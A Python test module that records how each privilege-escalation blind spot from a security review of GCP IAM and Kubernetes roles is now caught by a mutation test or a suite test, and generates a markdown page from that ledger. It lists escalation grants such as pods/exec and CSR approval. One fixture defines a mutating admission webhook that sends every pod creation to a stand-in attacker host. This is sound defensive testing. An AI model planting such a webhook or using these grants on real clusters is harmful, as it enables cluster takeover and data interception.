"""Every blind spot of the round-5 security review's red team 1 ("grants the escalation check does not model": each
row of its GCP IAM and Kubernetes tables the first check let through), with what answers it now: the mutation test
that fails if the check stops refusing it, a test of the suite that fails on it (the review's own "caught by the
suite" rows), or an acceptance with its reason. ``docs/review-blind-spots.md`` is this table, generated:
``uv run python tests/test_escalation_review.py --record``.

The review counted "about 34" real blind spots among the 50 mutations it saw pass (12 caught by other tests, 4
reads or not escalations); its tables list them one row each (a row such as C19-C22 or K12/K13/K14 several), and
every row it marked missed is here, so the 34 are among them whichever way they are counted.
"""

from __future__ import annotations

import ast
import sys
from dataclasses import dataclass
from pathlib import Path

import pytest
import test_escalation as te
import test_escalation_catalogues as cat
import test_escalation_widenings as wid
from test_escalation import Rendered, refused_after, rendered  # noqa: F401  (the module-scoped fixture)

TESTS = Path(__file__).resolve().parent
PAGE = TESTS.parent / "docs" / "review-blind-spots.md"


@dataclass(frozen=True)
class Case:
    """A key of a parametrized mutation table whose test asserts the check refuses it."""
    table: str  # module.TABLE
    key: str


@dataclass(frozen=True)
class Suite:
    """A test of the suite that fails on the mutation (the check does not read what it changes)."""
    test: str  # file::function


@dataclass(frozen=True)
class CheckTest:
    """A test of its own that asserts the check refuses the mutation."""
    test: str  # file::function


@dataclass(frozen=True)
class Here:
    """A mutation run by this module's test (no table elsewhere held it)."""
    key: str


@dataclass(frozen=True)
class Accepted:
    reason: str


TABLES = {"catalogues.GCP_CASES": {c[0] for c in cat.GCP_CASES}, "catalogues.K8S_CASES": {c[0] for c in cat.K8S_CASES},
          "catalogues.REVIEW": set(cat.REVIEW), "escalation.MUTATIONS": set(te.MUTATIONS),
          "widenings.GCP": set(wid.GCP), "widenings.K8S": set(wid.K8S)}
# Which test runs each table (so the page can name it).
RUNNER = {"catalogues.GCP_CASES": "test_escalation_catalogues.py::test_each_gcp_catalogue_entry_is_refused",
          "catalogues.K8S_CASES": "test_escalation_catalogues.py::test_each_kubernetes_catalogue_entry_is_refused",
          "catalogues.REVIEW": "test_escalation_catalogues.py::test_each_review_blind_spot_is_refused",
          "escalation.MUTATIONS": "test_escalation.py::test_each_widening_fails_the_check",
          "widenings.GCP": "test_escalation_widenings.py::test_gcp_widening_is_caught",
          "widenings.K8S": "test_escalation_widenings.py::test_kubernetes_widening_is_caught"}

MULTI_NS = "kueue-system"
COLLECTOR = {"kind": "ServiceAccount", "name": "collector", "namespace": "gmp-system"}
KUBECONFIGS = [{"apiGroups": [""], "resources": ["secrets"], "verbs": ["get"],
                "resourceNames": ["maxtext-east1-multikueue", "maxtext-east5-multikueue"]}]


def _external_webhook(x: Rendered) -> None:
    """K6: a MutatingWebhookConfiguration the stack declares, calling a URL outside the cluster on every pod."""
    x.stacks["prod"][1].append({
        "apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration",
        "metadata": {"name": "review-k6"},
        "webhooks": [{"name": "k6.example.com", "clientConfig": {"url": "https://attacker.example.com/mutate"},
                      "rules": [{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"],
                                 "resources": ["pods"]}],
                      "sideEffects": "None", "admissionReviewVersions": ["v1"]}]})


# (mutation, identity whose new refused finding the test expects)
HERE = {
    "C10: the trainer's principal pushes prod's images": (
        cat._repository_member("roles/artifactregistry.writer", cat.TRAINER), cat.TRAINER),
    "K2b: the metrics collector reads the worker kubeconfig Secrets": (
        cat._role(COLLECTOR, MULTI_NS, "multi", KUBECONFIGS), None),
    "K6: a declared webhook calling an external URL": (_external_webhook, None),
}

# The review's rows, in its order: (its mutation, in its words, shortened) -> what answers it.
LEDGER: dict[str, tuple[str, object]] = {
    "G2": ("workload identity on the node account for a foreign cluster's account",
           Case("catalogues.REVIEW", "G2: a foreign cluster's account as the node account")),
    "G3": ("workload identity on the MultiKueue account for a foreign cluster's account",
           Case("catalogues.REVIEW", "G3: a foreign cluster's account as the MultiKueue account")),
    "G3b": ("the same for a whole namespace (principalSet)",
            Case("catalogues.REVIEW", "G3b: a whole namespace as the MultiKueue account")),
    "C1": ("cloudbuild.builds.create in ci-deploy-prod's custom role",
           Case("catalogues.GCP_CASES", "RCECloudBuildBuildServer -> ci-deploy-prod")),
    "C2": ("deploymentmanager.deployments.create",
           Case("catalogues.GCP_CASES", "CreateDeploymentManagerDeployment -> ci-deploy-prod")),
    "C3": ("compute.instances.setMetadata + compute.projects.setCommonInstanceMetadata",
           Case("catalogues.GCP_CASES", "SSH keys in the project's metadata -> ci-deploy-prod")),
    "C4": ("storage.hmacKeys.create for ci-image-prod",
           Case("catalogues.GCP_CASES", "CreateServiceAccountHMACKey -> ci-image-prod")),
    "C6": ("ci-deploy-prod objectAdmin on the whole state bucket",
           Case("catalogues.REVIEW", "C6: the deployer on the whole state bucket")),
    "C6b": ("ci-deploy-prod objectAdmin conditioned to dev's state",
            Case("catalogues.REVIEW", "C6b: the deployer writes dev's state")),
    "C7": ("ci-preview-prod objectUser condition locks/... || stacks/",
           Case("catalogues.REVIEW", "C7: the reader's lock condition widened to every stack's state")),
    "C8": ("ci-deploy-prod on dev's state key",
           Case("catalogues.REVIEW", "C8: the deployer on dev's state key")),
    "C8b": ("ci-preview-prod Decrypter on multi's key",
            Case("catalogues.REVIEW", "C8b: the reader decrypts multi's state")),
    "C9": ("ci-preview-prod objectViewer with no condition",
           Case("catalogues.REVIEW", "C9: the reader reads every stack's state")),
    "C10": ("trainer principal as artifactregistry.writer on prod's repository",
            Here("C10: the trainer's principal pushes prod's images")),
    "C11": ("allUsers objectViewer on the checkpoint bucket",
            Case("catalogues.REVIEW", "C11: allUsers reads the checkpoints")),
    "C12": ("provider mapping attribute.workflow_env made constant or ref-free; issuer changed",
            Suite("test_bootstrap.py::test_who_can_act_as_which_identity")),
    "C13": ("deploy-prod's principal from another project's pool",
            Suite("test_bootstrap.py::test_pool_admits_only_this_repository_by_name_and_immutable_ids")),
    "C13b": ("pool condition with another repository's numeric ids",
             Suite("test_bootstrap.py::test_pool_admits_only_this_repository_by_name_and_immutable_ids")),
    "C14": ("container.clusters.update for ci-image-prod",
            Case("catalogues.GCP_CASES", "container.clusters.update -> ci-image-prod")),
    "C16": ("orgpolicy.policy.set", Case("catalogues.GCP_CASES", "SetOrgPolicyConstraints -> ci-image-prod")),
    "C17": ("logging.sinks.create", Case("catalogues.GCP_CASES", "a log sink -> ci-image-prod")),
    "C18": ("iam.serviceAccounts.create", Accepted(
        "a new account holds no role and its creator none on it (https://cloud.google.com/iam/docs/"
        "service-accounts-create); giving it one needs setIamPolicy, using it actAs or a token on it, each refused "
        "(catalogue entries SetProjectIAMPolicy, SetServiceAccountIAMPolicy, GetServiceAccountAccessToken); Rhino's "
        "catalogue does not list it")),
    "C19": ("deploy-prod also admits other branches",
            Suite("test_bootstrap.py::test_environments_require_a_reviewer_who_is_not_the_author_and_main_where_declared")),
    "C20": ("branch protection without code-owner review or approvals",
            Suite("test_bootstrap.py::test_main_is_protected")),
    "C21": ("Actions may approve pull requests", Suite("test_bootstrap.py::test_repository_settings_are_managed")),
    "C22": ("OIDC subject template not the default", Suite("test_bootstrap.py::test_repository_settings_are_managed")),
    "GK2": ("MultiKueue account with GKE IAM CSR create + approve",
            Case("catalogues.GCP_CASES", "GKE IAM CSR approval -> multikueue account")),
    "GK4": ("MultiKueue account with container.clusters.update",
            Case("catalogues.GCP_CASES", "container.clusters.update -> multikueue account")),
    "GK5": ("MultiKueue account with container.configMaps.update (the token job's script)",
            Case("catalogues.GCP_CASES", "GKE IAM ConfigMap writes (the token job's script) -> multikueue account")),
    "GK8": ("node account with storage.hmacKeys.create",
            Case("catalogues.GCP_CASES", "CreateServiceAccountHMACKey -> node account")),
    "K2": ("get on the worker kubeconfig Secrets (multikueue tokens)",
           Case("catalogues.K8S_CASES", "the named Secrets holding worker tokens -> kueue-metrics-token")),
    "K2b": ("the same for gmp-system/collector",
            Here("K2b: the metrics collector reads the worker kubeconfig Secrets")),
    "K3": ("get pods/exec", Case("catalogues.K8S_CASES", "pods/exec (get) -> kueue-metrics-token")),
    "K4": ("patch pods/ephemeralcontainers",
           Case("catalogues.K8S_CASES", "pods/ephemeralcontainers -> ci-drill-prod")),
    "K5": ("CSR create + approval + signer approve",
           Case("catalogues.K8S_CASES", "CSRs and certificate issuing -> ci-drill-prod")),
    "K6": ("a MutatingWebhookConfiguration declared by the stack, calling an external URL",
           Here("K6: a declared webhook calling an external URL")),
    "K7": ("patch cronjobs/multikueue-token",
           Case("catalogues.K8S_CASES", "a pod template patched (CronJob) -> kueue-metrics-token")),
    "K8": ("patch configmaps/multikueue-token (the script)",
           Case("catalogues.K8S_CASES", "the token jobs' ConfigMaps (their scripts) -> kueue-metrics-token")),
    "K9": ("view in kube-system for system:unauthenticated", CheckTest(
        "test_escalation_widenings.py::test_a_binding_to_kubernetes_public_subjects_is_refused_reads_too")),
    "K10": ("create secrets (a service-account-token Secret)",
            Case("catalogues.K8S_CASES", "Secrets created (a service-account-token Secret) -> kueue-metrics-token")),
    "K11": ("patch a kubeconfig Secret", CheckTest(
        "test_escalation_widenings.py::test_writing_the_kubeconfig_secrets_kueue_reads_is_refused")),
    "K15": ("patch namespaces/maxtext", Case("catalogues.K8S_CASES", "Namespace modification -> ci-drill-prod")),
    "K16": ("create persistentvolumes", Case("catalogues.K8S_CASES", "Persistent volume creation -> ci-drill-prod")),
    "K17": ("patch/delete networkpolicies in maxtext",
            Case("catalogues.K8S_CASES", "network policies in the job namespace -> ci-drill-prod")),
}


def _functions(file: str) -> set[str]:
    tree = ast.parse((TESTS / file).read_text())
    return {n.name for n in tree.body if isinstance(n, ast.FunctionDef)}


def test_every_row_names_what_answers_it():
    """Each Case is a key of a table its test runs; each Suite test exists; each Here mutation is run below."""
    for row, (_, answer) in LEDGER.items():
        if isinstance(answer, Case):
            assert answer.key in TABLES[answer.table], (row, answer)
        elif isinstance(answer, (Suite, CheckTest)):
            file, func = answer.test.split("::")
            assert func in _functions(file), (row, answer)
        elif isinstance(answer, Here):
            assert answer.key in HERE, (row, answer)
        else:
            assert isinstance(answer, Accepted) and answer.reason, row
    assert {a.key for _, a in LEDGER.values() if isinstance(a, Here)} == set(HERE)


@pytest.mark.parametrize("mutation", list(HERE))
def test_each_blind_spot_no_table_held_is_refused(rendered, mutation):  # noqa: F811
    mutate, who = HERE[mutation]
    assert refused_after(rendered, mutate, lambda f: who is None or who in (f.identity, f.what) or who in str(f)), (
        f"{mutation}: not refused")


def _answer(answer) -> tuple[str, str]:
    if isinstance(answer, Case):
        return "refused", f"`{RUNNER[answer.table]}[{answer.key}]`"
    if isinstance(answer, Here):
        return "refused", f"`test_escalation_review.py::test_each_blind_spot_no_table_held_is_refused[{answer.key}]`"
    if isinstance(answer, CheckTest):
        return "refused", f"`{answer.test}`"
    if isinstance(answer, Suite):
        return "refused by the suite", f"`{answer.test}`"
    return "accepted", answer.reason


def generated() -> str:
    rows = [_answer(a) + (row, what) for row, (what, a) in LEDGER.items()]
    counts = {s: sum(r[0] == s for r in rows) for s in ("refused", "refused by the suite", "accepted")}
    out = ["# The security review's blind spots, each answered (generated)", "",
           "Generated by `uv run python tests/test_escalation_review.py --record` from the table in that test. Each "
           "row is a mutation the round-5 security review's first red team (\"grants the escalation check does not "
           "model\") saw pass; the review counted about 34 real escalations among them. *Refused*: the named "
           "mutation test adds it to the rendering the escalation check reads and fails unless the check refuses "
           "it. *Refused by the suite*: the check does not read what the mutation changes (the workload identity "
           "provider, GitHub's settings), the named test pins it. *Accepted*: with its reason.", "",
           f"{len(rows)} rows: {counts['refused']} refused by the check, {counts['refused by the suite']} by the "
           f"suite, {counts['accepted']} accepted.", "",
           "| # | Mutation | Status | Test or reason |", "|---|---|---|---|"]
    out += ["| " + " | ".join(c.replace("|", "\\|") for c in (row, what, status, why)) + " |"
            for status, why, row, what in rows]
    return "\n".join(out) + "\n"


def test_the_page_is_the_table():
    assert PAGE.read_text() == generated(), \
        "docs/review-blind-spots.md is stale: uv run python tests/test_escalation_review.py --record"


if __name__ == "__main__" and "--record" in sys.argv:
    PAGE.write_text(generated())
    print(f"wrote {PAGE}")
